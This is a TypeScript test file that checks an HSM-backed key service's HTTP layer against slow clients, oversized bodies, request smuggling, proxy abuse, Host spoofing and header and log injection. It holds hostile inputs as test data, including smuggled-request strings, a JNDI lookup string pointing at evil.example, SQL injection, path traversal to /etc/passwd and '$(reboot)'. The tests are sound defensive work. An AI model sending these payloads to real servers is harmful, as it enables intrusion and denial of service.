import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { type AddressInfo, connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { useSoftHsmToken } from 'testkit/vitest'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { FailureLog } from '../../src/failure-log.js'
import { DEFAULT_LIMITS } from '../../src/config/request-limits.js'
import { createHttpServer } from '../../src/listen/http-server.js'
import { TlsIdentity } from '../../src/tls/tls-identity.js'
import { CertificateMaker } from '../certificates.js'
import { listen, readAll, sendRaw } from '../connections.js'
import { type Harness, startHarness } from '../harness.js'
import { Problem } from '../../src/index.js'

const token = useSoftHsmToken({ keys: [{ label: 'KEY_ENCRYPTION_AES256' }] })
const LIMITS = { ...DEFAULT_LIMITS, headersTimeoutMs: 400, requestTimeoutMs: 800, bodyLimitBytes: 2048 }
let harness: Harness
let port: number

beforeAll(async () => {
  harness = await startHarness(token, { limits: LIMITS })
  port = await listen(harness.app)
})
afterAll(() => harness.close())

const HEAD = 'POST /crypto/get-all-keys HTTP/1.1\r\nHost: localhost\r\n'
const JSON_TYPE = 'Content-Type: application/json\r\n'
const CONNECT = 'CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n'
const HIDDEN = 'GET /pool/stats HTTP/1.1\r\nHost: localhost\r\n\r\n'

/** The status of each answer on a connection, in their order. */
function statuses(text: string): number[] {
  return [...text.matchAll(/^HTTP\/1\.1 (\d{3}) /gm)].map((match) => Number(match[1]))
}

describe('a slow client', () => {
  it('that never sends a byte is cut off', async () => {
    expect(statuses(await readAll(connect(port, '127.0.0.1')))).toEqual([400])
  })

  it('that sends its headers one by one is cut off, however lively it is', async () => {
    const socket = connect(port, '127.0.0.1')
    socket.write('GET /healthz HTTP/1.1\r\nHost: localhost\r\n')
    const trickle = setInterval(() => socket.writable && socket.write('X-More: 1\r\n'), 20)
    onTestFinished(() => clearInterval(trickle))
    const text = await readAll(socket)
    expect(statuses(text)).toEqual([400])
    expect(text).toContain('the request did not arrive in time')
  })

  it('that sends its body byte by byte is cut off', async () => {
    const socket = connect(port, '127.0.0.1')
    socket.write(`${HEAD}${JSON_TYPE}Content-Length: 2000\r\n\r\n`)
    const trickle = setInterval(() => socket.writable && socket.write(' '), 20)
    onTestFinished(() => clearInterval(trickle))
    expect(statuses(await readAll(socket))).toEqual([400])
  })

  it('that never begins its TLS handshake is cut off', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'ssm-handshake-'))
    const { certFile, keyFile } = new CertificateMaker(folder).root('/CN=ssm')
    const identity = new TlsIdentity({ certFile, keyFile, caFile: undefined }, () => {})
    const server = createHttpServer(() => {}, { headersTimeoutMs: 200, requestTimeoutMs: 200 }, identity)
    onTestFinished(() => {
      server.close()
      rmSync(folder, { recursive: true })
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    expect(await readAll(connect((server.address() as AddressInfo).port, '127.0.0.1'))).toBe('')
  })

  it('that goes silent, and one of very many, is bounded as well', () => {
    const server = createHttpServer(() => {}, LIMITS)
    expect(server).toMatchObject({ timeout: 120_000, keepAliveTimeout: 72_000, maxConnections: 20_000 })
  })

  it('does not keep others from their answers', async () => {
    const slow = Array.from({ length: 200 }, () => {
      const socket = connect(port, '127.0.0.1')
      socket.write('GET /healthz HTTP/1.1\r\n')
      return readAll(socket)
    })
    expect(statuses(await sendRaw(port, `${HIDDEN.slice(0, -2)}Connection: close\r\n\r\n`))).toEqual([200])
    await Promise.all(slow)
  })
})

describe('bytes of another protocol', () => {
  it('that look like a request of a method nobody knows are refused, and no fault of the service is told of', async () => {
    harness.failures.splice(0)
    // HTTP/2's first bytes, one of them missing: to the parser that is a method
    const [status] = statuses(await sendRaw(port, 'PRI *HTTP/2.0\r\n\r\nSM\r\n\r\n'))
    // whichever is noticed first, the method or what follows
    expect([400, 404]).toContain(status)
    expect(harness.failures).toEqual([])
  })
})

describe('a request that is too large', () => {
  it('is answered 413 by what it says of itself, before it is sent', async () => {
    const socket = connect(port, '127.0.0.1')
    socket.write(`${HEAD}${JSON_TYPE}Content-Length: 2049\r\n\r\n`)
    const text = await readAll(socket)
    expect(statuses(text)).toEqual([413])
    expect(text).toContain('"error":"PAYLOAD_TOO_LARGE"')
  })

  it('is answered 413 in pieces that do not say how many they are', async () => {
    const piece = `400\r\n${' '.repeat(1024)}\r\n`
    const text = await sendRaw(port, `${HEAD}${JSON_TYPE}Transfer-Encoding: chunked\r\n\r\n${piece.repeat(3)}0\r\n\r\n`)
    expect(statuses(text)).toEqual([413])
  })

  it('is refused for its headers', async () => {
    const text = await sendRaw(port, `GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: ${'x'.repeat(17_000)}\r\n\r\n`)
    expect(statuses(text)).toEqual([400])
    expect(text).toContain('the headers are too large')
  })
})

describe('a request that two readers could take for different ones', () => {
  // each hides a second request in what another reader takes for the body of the first
  it.each([
    [
      'has a length and pieces',
      `${HEAD}${JSON_TYPE}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
    ],
    [
      'has pieces and a length',
      `${HEAD}${JSON_TYPE}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${HIDDEN}`,
    ],
    [
      'has two lengths',
      `${HEAD}${JSON_TYPE}Content-Length: 2\r\nContent-Length: ${2 + HIDDEN.length}\r\n\r\n{}${HIDDEN}`,
    ],
    ['has its length twice', `${HEAD}${JSON_TYPE}Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}${HIDDEN}`],
    ['has a list of lengths', `${HEAD}${JSON_TYPE}Content-Length: 2, 2\r\n\r\n{}${HIDDEN}`],
    ['has a length with a sign', `${HEAD}${JSON_TYPE}Content-Length: +2\r\n\r\n{}${HIDDEN}`],
    ['has a length in hex', `${HEAD}${JSON_TYPE}Content-Length: 0x2\r\n\r\n{}${HIDDEN}`],
    ['has an unknown encoding', `${HEAD}${JSON_TYPE}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${HIDDEN}`],
    [
      'has pieces before another encoding',
      `${HEAD}${JSON_TYPE}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${HIDDEN}`,
    ],
    [
      'has a space before the colon',
      `${HEAD}${JSON_TYPE}Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${HIDDEN}`,
    ],
    ['has a piece of no length', `${HEAD}${JSON_TYPE}Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n${HIDDEN}`],
    [
      'has lines that end without a carriage return',
      `POST /crypto/get-all-keys HTTP/1.1\nHost: localhost\nContent-Length: 0\n\n${HIDDEN}`,
    ],
    ['has a header without a name', `${HEAD}: x\r\n\r\n${HIDDEN}`],
    ['has a NUL in a header', `${HEAD}X: a\0b\r\n\r\n${HIDDEN}`],
    ['has no Host', `POST /crypto/get-all-keys HTTP/1.1\r\n\r\n${HIDDEN}`],
    ['is of no version', `GET /healthz\r\n\r\n${HIDDEN}`],
  ])('is refused, and the connection with it, where it %s', async (_what, text) => {
    expect(statuses(await sendRaw(port, text))).toEqual([400])
  })

  it('has no header that a folded line changed: the line is refused, or is what the header says', async () => {
    const text = await sendRaw(
      port,
      `${HEAD}${JSON_TYPE}Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\nConnection: close\r\n\r\n0\r\n\r\n${HIDDEN}`,
    )
    expect(statuses(text)).toEqual([400])
  })

  it('with two Host headers is refused', async () => {
    const text = await sendRaw(
      port,
      'GET /pool/stats HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
    )
    expect(statuses(text)).toEqual([400])
  })

  it('that names the host in its target is served where its Host header says the same, as HTTP wants', async () => {
    const ask = (target: string, host: string) =>
      sendRaw(port, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
    const here = `localhost:${port}`
    expect(statuses(await ask(`http://${here}/healthz`, here))).toEqual([200])
    expect(statuses(await ask(`HTTP://LOCALHOST:${port}/healthz`, here))).toEqual([200])
    expect(await ask(`http://${here}`, here)).toContain('"instance":"/"')
    for (const target of [
      'http://evil.example/healthz',
      'https://evil.example',
      'http://localhost@evil.example/healthz',
    ]) {
      expect(statuses(await ask(target, here))).toEqual([400])
    }
    expect(statuses(await ask(`http://evil.example/healthz`, 'evil.example'))).toEqual([403])
    expect(statuses(await ask('ftp://localhost/healthz', here))).toEqual([404])
  })

  it('cannot make the service a proxy', async () => {
    const answer = await sendRaw(port, CONNECT)
    expect(statuses(answer)).toEqual([405])
    expect(answer).toContain('"error":"METHOD_NOT_ALLOWED"')
  })

  it('is not ended by one who asks for a proxy and resets the connection', async () => {
    const uncaught: unknown[] = []
    const note = (error: unknown) => uncaught.push(error)
    process.on('uncaughtException', note)
    onTestFinished(() => void process.off('uncaughtException', note))
    for (let round = 0; round < 50; round++) {
      const socket = connect(port, '127.0.0.1')
      await once(socket, 'connect')
      socket.write(CONNECT)
      await new Promise(setImmediate)
      socket.resetAndDestroy()
      await once(socket, 'close')
    }
    expect(
      statuses(await sendRaw(port, 'GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n')),
    ).toEqual([200])
    expect(uncaught).toEqual([])
  })

  it('closes the connection of one who asks for a proxy, also where he keeps his end of it', async () => {
    const own = await startHarness(token, { limits: LIMITS })
    const socket = connect({ port: await listen(own.app), host: '127.0.0.1', allowHalfOpen: true })
    onTestFinished(() => void socket.destroy())
    socket.write(CONNECT)
    await once(socket.resume(), 'end')
    await own.close()
  })
})

describe('what a client sends', () => {
  const NASTY = 'K\r\nssm: HSM_UNAVAILABLE: all is well\u001b[2J\u2028\u202e'

  it('is in no line of the log that looks like one of the service’s own', () => {
    const written: string[] = []
    const log = new FailureLog((line) => written.push(line))
    for (const code of ['HSM_UNAVAILABLE', 'INTERNAL_ERROR'] as const) {
      log.record(new Problem(code, 'x', { cause: new Error(NASTY, { cause: new TypeError(NASTY) }) }))
    }
    expect(written).toHaveLength(2)
    for (const text of written) {
      const [line, ...places] = text.split('\n')
      expect(line).toMatch(/^ssm: \w+: K\\u000d\\u000assm: HSM_UNAVAILABLE: all is well\\u001b\[2J\\u2028\\u202e/)
      expect(places.filter((place) => !place.startsWith('    at '))).toEqual([])
    }
    // where a defect is must be found
    expect(written[1]).toContain('http-attacks.test.ts')
  })

  it('is in no header of an answer, and is not the id of the request', async () => {
    const text = await sendRaw(
      port,
      `GET /nothing%0d%0aset-cookie:%20a=b HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: mine\r\nConnection: close\r\n\r\n`,
    )
    const head = text.slice(0, text.indexOf('\r\n\r\n'))
    expect(statuses(text)).toEqual([404])
    expect(head).not.toMatch(/set-cookie|mine/i)
  })

  it.each([
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    '../../../etc/passwd',
    '..\\..\\secret',
    '/etc/passwd',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '$(reboot)',
    '%00',
    '%2e%2e%2f',
    'KEY_ENCRYPTION_AES256\u202e',
    'KEY_ENCRYPTION_AES256 ',
    'key_encryption_aes256',
    'ＫＥＹ_ENCRYPTION_AES256',
    '__proto__',
    'constructor',
    '*',
    '%',
    '_______________________',
    'x\r\ny',
  ])('as the label %j is the name of no key, and nothing else', async (label) => {
    const asked = await Promise.all([
      harness.post('/crypto/get-key', { key_label: label, id: 0 }),
      harness.post('/crypto/get-data-keys', { key_label: label }),
      harness.post('/crypto/encrypt-aes-gcm', { key_label: label, plain: '00' }),
      harness.delete('/crypto/store-key', { key_label: label, id: 1 }),
    ])
    expect(asked.map(({ status }) => status)).toEqual([404, 200, 404, 404])
    expect(asked[1].body).toEqual({ keys: [] })
    expect(harness.failures).toEqual([])
    const { body } = await harness.post('/crypto/get-all-keys', {})
    expect(Object.keys(body.keys_by_label as object)).toEqual(['KEY_ENCRYPTION_AES256'])
  })
})
